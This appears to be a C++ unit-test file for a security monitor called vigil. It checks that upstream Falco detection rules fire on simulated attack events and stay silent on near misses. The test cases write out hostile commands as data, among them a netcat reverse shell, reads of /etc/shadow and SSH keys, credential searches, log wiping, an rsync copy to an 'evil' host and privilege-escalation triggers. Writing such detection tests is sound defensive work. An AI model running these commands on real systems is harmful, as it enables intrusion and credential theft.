// The upstream Falco rule files, loaded unchanged, on synthetic events: each rule below fires
// on the behaviour it describes and stays silent on a near miss (a trusted program, another
// path, an exception), as in Falco.
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>

#include <functional>
#include <set>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "unit/rules/rules_fixture.h"

namespace vigil::rules {
namespace {

using testing_support::Matched;
using testing_support::ProcSpec;
using testing_support::RulesHarness;

std::string UpstreamDir() {
  if (const char* dir = std::getenv("VIGIL_FALCO_RULES_DIR")) return dir;
  return VIGIL_FALCO_RULES_DIR;
}

std::vector<std::string> UpstreamFiles() {
  std::string dir = UpstreamDir();
  return {dir + "/falco_rules.yaml", dir + "/falco-incubating_rules.yaml",
          dir + "/falco-sandbox_rules.yaml"};
}

bool UpstreamPresent() {
  struct stat st {};
  return ::stat((UpstreamDir() + "/falco_rules.yaml").c_str(), &st) == 0;
}

#define REQUIRE_UPSTREAM()                                                                  \
  if (!UpstreamPresent()) GTEST_SKIP() << "upstream Falco rules not found in " << UpstreamDir() \
                                       << " (set VIGIL_FALCO_RULES_DIR)"

bool Fired(const std::vector<Matched>& matches, const std::string& rule) {
  for (const auto& m : matches) {
    if (m.rule == rule) return true;
  }
  return false;
}

TEST(UpstreamRulesTest, EachFileLoadsWithoutErrors) {
  REQUIRE_UPSTREAM();
  for (const auto& file : UpstreamFiles()) {
    RulesHarness h;
    EXPECT_TRUE(h.LoadFiles({file})) << file;
  }
}

TEST(UpstreamRulesTest, AllThreeLoadTogetherWithoutErrors) {
  REQUIRE_UPSTREAM();
  RulesHarness h;
  ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
  EXPECT_GE(h.set()->rules().size(), 90u);
  // What vigil cannot observe yet is said, by name.
  std::string all;
  for (const auto& d : h.diagnostics()) all += d + "\n";
  // Every field they read is produced (fd.sip.name, the last, since names are resolved).
  EXPECT_THAT(all, testing::Not(testing::HasSubstr("is not produced by vigil yet")));
  // Every event type the upstream files name is captured now (execveat was the last).
  EXPECT_THAT(all, testing::Not(testing::HasSubstr("is not captured by vigil yet")));
  // Sockets are observed now: their fields and events are no longer reported missing.
  EXPECT_THAT(all, testing::Not(testing::HasSubstr("field 'fd.sip' is not produced")));
  EXPECT_THAT(all, testing::Not(testing::HasSubstr("event type 'connect' is not captured")));
}

// A scenario: runs events in a fresh harness (upstream files loaded) and returns the matches
// of its last event.
using Scenario = std::function<std::vector<Matched>(RulesHarness&)>;

struct RuleCase {
  std::string rule;
  Scenario fires;
  Scenario near_miss;
};

ProcSpec Proc(uint32_t pid, std::string comm, std::vector<std::string> args, uint32_t ppid = 100) {
  ProcSpec p;
  p.pid = pid;
  p.ppid = ppid;
  p.comm = std::move(comm);
  p.args = std::move(args);
  return p;
}

ProcSpec OnHost(ProcSpec p) {
  p.in_container = false;
  return p;
}

Scenario ExecOf(ProcSpec p) {
  return [p](RulesHarness& h) { return h.Exec(p); };
}

Scenario OpenBy(ProcSpec p, std::string path, int flags, uint32_t create_mode = 0644) {
  return [p, path, flags, create_mode](RulesHarness& h) {
    h.Exec(p);
    return h.Open(p.pid, path, flags, 3, 0100644, create_mode);
  };
}

Scenario ExecChain(std::vector<ProcSpec> chain) {
  return [chain](RulesHarness& h) {
    std::vector<Matched> last;
    for (const auto& p : chain) last = h.Exec(p);
    return last;
  };
}

Scenario Privileged(Scenario inner) {
  return [inner](RulesHarness& h) {
    h.container().privileged = true;
    return inner(h);
  };
}

ProcSpec WithTty(ProcSpec p) {
  p.tty = 34816;
  return p;
}

ProcSpec WithExe(ProcSpec p, std::string exe) {
  p.exe_path = std::move(exe);
  return p;
}

ProcSpec Dropped(ProcSpec p) {
  p.upper_layer = true;
  return p;
}

ProcSpec Fileless(ProcSpec p) {
  p.memfd = true;
  return p;
}

ProcSpec WithEnv(ProcSpec p, std::vector<std::string> env) {
  p.env = std::move(env);
  return p;
}

ProcSpec WithCaps(ProcSpec p, uint64_t caps) {
  p.caps = caps;
  return p;
}

ProcSpec WithLogin(ProcSpec p, uint32_t loginuid) {
  p.loginuid = loginuid;
  return p;
}

std::vector<RuleCase> Cases() {
  const int kRead = O_RDONLY;
  const int kWrite = O_WRONLY | O_CREAT | O_TRUNC;
  return {
      {"Read sensitive file untrusted",
       OpenBy(Proc(200, "cat", {"cat", "/etc/shadow"}), "/etc/shadow", kRead),
       OpenBy(Proc(200, "passwd", {"passwd"}), "/etc/shadow", kRead)},
      {"Directory traversal monitored file read",
       [](RulesHarness& h) {
         h.Exec(Proc(200, "php-fpm", {"php-fpm"}, 50));
         return h.OpenRaw(200, "/var/www/../../../etc/passwd", "/etc/passwd", kRead);
       },
       [](RulesHarness& h) {  // the same read without the traversal
         h.Exec(Proc(200, "php-fpm", {"php-fpm"}, 50));
         return h.OpenRaw(200, "/etc/passwd", "/etc/passwd", kRead);
       }},
      {"Run shell untrusted",
       ExecChain({Proc(150, "nginx", {"nginx"}, 100), Proc(200, "sh", {"sh", "-c", "id"}, 150)}),
       ExecChain({Proc(150, "make", {"make"}, 100), Proc(200, "sh", {"sh", "-c", "id"}, 150)})},
      {"Terminal shell in container",
       ExecChain({Proc(150, "containerd-shim", {"containerd-shim"}, 1),
                  WithTty(Proc(200, "bash", {"bash"}, 150))}),
       ExecChain({Proc(150, "containerd-shim", {"containerd-shim"}, 1),
                  Proc(200, "bash", {"bash"}, 150)})},
      {"Netcat Remote Code Execution in Container",
       ExecOf(Proc(200, "nc", {"nc", "10.0.0.1", "4444", "-e", "/bin/sh"})),
       ExecOf(Proc(200, "nc", {"nc", "-z", "10.0.0.1", "4444"}))},
      {"Search Private Keys or Passwords",
       ExecOf(Proc(200, "grep", {"grep", "-r", "BEGIN RSA PRIVATE", "/"})),
       ExecOf(Proc(200, "grep", {"grep", "-r", "TODO", "/src"}))},
      {"Clear Log Activities",
       OpenBy(Proc(200, "python3", {"python3", "wipe.py"}), "/var/log/syslog", O_WRONLY | O_TRUNC),
       OpenBy(Proc(200, "python3", {"python3", "wipe.py"}), "/var/log/syslog", O_WRONLY | O_APPEND)},
      {"Remove Bulk Data from Disk", ExecOf(Proc(200, "shred", {"shred", "-u", "/data/db"})),
       ExecOf(Proc(200, "rm", {"rm", "-rf", "/tmp/x"}))},
      {"Debugfs Launched in Privileged Container",
       Privileged(ExecOf(Proc(200, "debugfs", {"debugfs", "/dev/sda1"}))),
       ExecOf(Proc(200, "debugfs", {"debugfs", "/dev/sda1"}))},
      {"Find AWS Credentials",
       ExecOf(Proc(200, "find", {"find", "/", "-name", ".aws/credentials"})),
       ExecOf(Proc(200, "find", {"find", "/", "-name", "*.log"}))},
      {"Execution from /dev/shm", ExecOf(WithExe(Proc(200, "x", {"/dev/shm/x"}), "/dev/shm/x")),
       ExecOf(WithExe(Proc(200, "x", {"/usr/local/bin/x"}), "/usr/local/bin/x"))},
      {"Modify Shell Configuration File",
       OpenBy(Proc(200, "python3", {"python3"}), "/root/.bashrc", kWrite),
       OpenBy(Proc(200, "python3", {"python3"}), "/root/.bashrc", kRead)},
      {"Schedule Cron Jobs", OpenBy(Proc(200, "python3", {"python3"}), "/etc/crontab", kWrite),
       OpenBy(Proc(200, "python3", {"python3"}), "/etc/crontab", kRead)},
      {"Read ssh information",
       OpenBy(Proc(200, "python3", {"python3"}), "/root/.ssh/id_rsa", kRead),
       OpenBy(Proc(200, "ssh", {"ssh", "host"}), "/root/.ssh/id_rsa", kRead)},
      {"DB program spawned process",
       ExecChain({Proc(150, "mysqld", {"mysqld"}, 100), Proc(200, "sh", {"sh", "-c", "id"}, 150)}),
       ExecChain({Proc(150, "mysqld", {"mysqld"}, 100), Proc(200, "mysqld", {"mysqld"}, 150)})},
      {"User mgmt binaries",
       ExecOf(OnHost(Proc(200, "useradd", {"useradd", "mallory"}))),
       ExecOf(Proc(200, "useradd", {"useradd", "mallory"}))},  // in a container: not this rule
      {"Create files below dev",
       OpenBy(Proc(200, "python3", {"python3"}), "/dev/evil", O_WRONLY | O_CREAT),
       OpenBy(Proc(200, "python3", {"python3"}), "/dev/null", O_WRONLY)},
      {"Launch Package Management Process in Container",
       ExecOf(Proc(200, "apt-get", {"apt-get", "install", "nmap"})),
       ExecOf(OnHost(Proc(200, "apt-get", {"apt-get", "install", "nmap"})))},
      {"Launch Suspicious Network Tool in Container",
       ExecOf(Proc(200, "nmap", {"nmap", "10.0.0.0/24"})),
       ExecOf(Proc(200, "ping", {"ping", "10.0.0.1"}))},
      {"Launch Remote File Copy Tools in Container",
       ExecOf(Proc(200, "rsync", {"rsync", "-a", "/data", "evil:/"})),
       ExecOf(Proc(200, "cp", {"cp", "-a", "/data", "/backup"}))},
      {"Mount Launched in Privileged Container",
       Privileged(ExecOf(Proc(200, "mount", {"mount", "/dev/sda1", "/mnt"}))),
       ExecOf(Proc(200, "mount", {"mount", "/dev/sda1", "/mnt"}))},
      {"Read environment variable from /proc files",
       OpenBy(Proc(200, "cat", {"cat", "/proc/1/environ"}), "/proc/1/environ", kRead),
       OpenBy(Proc(200, "cat", {"cat", "/proc/1/status"}), "/proc/1/status", kRead)},
      {"Adding ssh keys to authorized_keys",
       OpenBy(Proc(200, "python3", {"python3"}), "/root/.ssh/authorized_keys", kWrite),
       OpenBy(Proc(200, "sshd", {"sshd"}), "/root/.ssh/authorized_keys", kWrite)},
      {"Backdoored library loaded into SSHD (CVE-2024-3094)",
       OpenBy(Proc(200, "sshd", {"sshd"}), "/usr/lib/liblzma.so.5.6.0", kRead),
       OpenBy(Proc(200, "sshd", {"sshd"}), "/usr/lib/liblzma.so.5.4.1", kRead)},
      {"Write below binary dir", OpenBy(Proc(200, "touch", {"touch", "/bin/x"}), "/bin/x", kWrite),
       OpenBy(Proc(200, "dpkg", {"dpkg", "-i", "x.deb"}), "/bin/x", kWrite)},
      {"Write below etc", OpenBy(Proc(200, "python3", {"python3"}), "/etc/evil.conf", kWrite),
       OpenBy(Proc(200, "python3", {"python3"}), "/tmp/evil.conf", kWrite)},
      {"Detect crypto miners using the Stratum protocol",
       ExecOf(Proc(200, "miner", {"miner", "-o", "stratum+tcp://pool:3333"})),
       ExecOf(Proc(200, "miner", {"miner", "-o", "https://pool:3333"}))},
      // Fields the exec record now carries: upper layer, memfd, vpid, environment, caps.
      {"Drop and execute new binary in container",
       ExecOf(Dropped(Proc(200, "payload", {"/tmp/payload"}))),
       ExecOf(Proc(200, "payload", {"/usr/bin/payload"}))},
      {"Fileless execution via memfd_create", ExecOf(Fileless(Proc(200, "3", {"x"}))),
       ExecOf(Proc(200, "x", {"x"}))},
      {"Potential Local Privilege Escalation via Environment Variables Misuse",
       ExecOf(WithEnv(Proc(200, "su", {"su"}), {"GLIBC_TUNABLES=glibc.tune.x=1"})),
       ExecOf(WithEnv(Proc(200, "su", {"su"}), {"LANG=C"}))},
      {"Detect release_agent File Container Escapes",
       OpenBy(WithCaps(Proc(200, "sh", {"sh"}), 0xa80425fbull | (1ull << 21)),
              "/tmp/cg/release_agent", O_WRONLY | O_TRUNC),
       OpenBy(Proc(200, "sh", {"sh"}), "/tmp/cg/release_agent", O_WRONLY | O_TRUNC)},
      {"Launch Suspicious Network Tool on Host",
       ExecOf(OnHost(Proc(200, "nmap", {"nmap", "10.0.0.0/24"}))),
       ExecOf(Proc(200, "nmap", {"nmap", "10.0.0.0/24"}))},
      {"Sudo Potential Privilege Escalation",
       ExecOf(WithLogin(OnHost(Proc(200, "sudoedit", {"sudoedit", "-s", "/etc/x\\"})), 1000)),
       ExecOf(WithLogin(OnHost(Proc(200, "sudoedit", {"sudoedit", "/etc/x"})), 1000))},
      {"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
       ExecOf(WithLogin(OnHost(Proc(200, "pkexec", {"pkexec"})), 1000)),
       ExecOf(WithLogin(OnHost(Proc(200, "pkexec", {"pkexec", "ls"})), 1000))},
      {"Decoding Payload in Container", ExecOf(Proc(200, "base64", {"base64", "-d", "x"})),
       ExecOf(Proc(200, "base64", {"base64", "x"}))},
      {"Known Cryptominer Process Executed", ExecOf(Proc(200, "xmrig", {"xmrig"})),
       ExecOf(Proc(200, "xmllint", {"xmllint"}))},
      {"Web Server Spawned Shell",
       ExecChain({Proc(150, "nginx", {"nginx"}, 100), Proc(200, "sh", {"sh", "-c", "id"}, 150)}),
       ExecChain({Proc(150, "cron", {"cron"}, 100), Proc(200, "sh", {"sh", "-c", "id"}, 150)})},
      {"Privileged Container Device Access",
       OpenBy(Proc(200, "dd", {"dd", "if=/dev/sda"}), "/dev/sda", kRead),
       OpenBy(Proc(200, "dd", {"dd", "if=/dev/zero"}), "/dev/zero", kRead)},
      {"Container Access to Host Sensitive Paths",
       OpenBy(Proc(200, "cat", {"cat"}), "/host/etc/shadow", kRead),
       OpenBy(Proc(200, "cat", {"cat"}), "/srv/host/etc", kRead)},
  };
}

class UpstreamRuleCaseTest : public testing::TestWithParam<RuleCase> {};

TEST_P(UpstreamRuleCaseTest, FiresAndNearMissDoesNot) {
  REQUIRE_UPSTREAM();
  const RuleCase& c = GetParam();
  {
    RulesHarness h;
    ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
    bool known = false;
    for (const auto& r : h.set()->rules()) known = known || r->name == c.rule;
    ASSERT_TRUE(known) << "no rule named " << c.rule;
    auto matches = c.fires(h);
    std::string got;
    for (const auto& m : matches) got += m.rule + "; ";
    EXPECT_TRUE(Fired(matches, c.rule)) << c.rule << " did not fire; matched: " << got;
  }
  if (c.near_miss) {
    RulesHarness h;
    ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
    EXPECT_FALSE(Fired(c.near_miss(h), c.rule)) << c.rule << " fired on its near miss";
  }
}

// Rules upstream ships disabled stay off, and a user's override switches them on.
TEST(UpstreamRulesTest, DisabledRuleStaysOffUntilOverridden) {
  REQUIRE_UPSTREAM();
  const std::string rule = "Container Drift Detected (open+create)";
  auto drop = OpenBy(Proc(200, "python3", {"python3"}), "/tmp/payload", O_WRONLY | O_CREAT, 0755);
  {
    RulesHarness h;
    ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
    EXPECT_FALSE(Fired(drop(h), rule));
  }
  char path[] = "/tmp/vigil-override-XXXXXX";
  int fd = mkstemp(path);
  ASSERT_GE(fd, 0);
  std::string local = "- rule: " + rule + "\n  enabled: true\n  override:\n    enabled: replace\n";
  ASSERT_EQ(write(fd, local.data(), local.size()), static_cast<ssize_t>(local.size()));
  close(fd);
  RulesHarness h;
  auto files = UpstreamFiles();
  files.push_back(path);
  ASSERT_TRUE(h.LoadFiles(files));
  EXPECT_TRUE(Fired(drop(h), rule));
  std::remove(path);
}

INSTANTIATE_TEST_SUITE_P(Rules, UpstreamRuleCaseTest, testing::ValuesIn(Cases()),
                         [](const auto& info) {
                           std::string name;
                           for (char ch : info.param.rule) {
                             name += std::isalnum(static_cast<unsigned char>(ch)) ? ch : '_';
                           }
                           return name;
                         });

// As in Falco, the upstream spawned_process matches failed execs too, with proc.* the caller's.
TEST(UpstreamRulesTest, FailedExecMatchesSpawnedProcessAsInFalco) {
  REQUIRE_UPSTREAM();
  RulesHarness h;
  ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
  h.Exec(Proc(150, "nginx", {"nginx"}, 100));
  h.Exec(Proc(200, "sh", {"sh", "-c", "id"}, 150));
  std::set<std::string> rules;
  for (const auto& m : h.FailedExec(200, "/usr/local/bin/id", -2)) rules.insert(m.rule);
  EXPECT_TRUE(rules.contains("Run shell untrusted"));
}

// The upstream files leave most opens in the kernel: the traversal rule's "../" scan is gated
// by where the file is (/etc, ~/.ssh, id_rsa), not run on every open.
TEST(UpstreamRulesTest, OpenFilterGatesTheTraversalScan) {
  REQUIRE_UPSTREAM();
  RulesHarness h;
  ASSERT_TRUE(h.LoadFiles(UpstreamFiles()));
  OpenFilter f = h.set()->OpenFilterInUse();
  EXPECT_FALSE(f.pass_all) << f.Describe();
  EXPECT_FALSE(f.raw_dotdot) << f.Describe();
  EXPECT_TRUE(f.gated_dotdot);
  EXPECT_TRUE(f.dotdot_gate_contains.contains("id_rsa"));
}

}  // namespace
}  // namespace vigil::rules
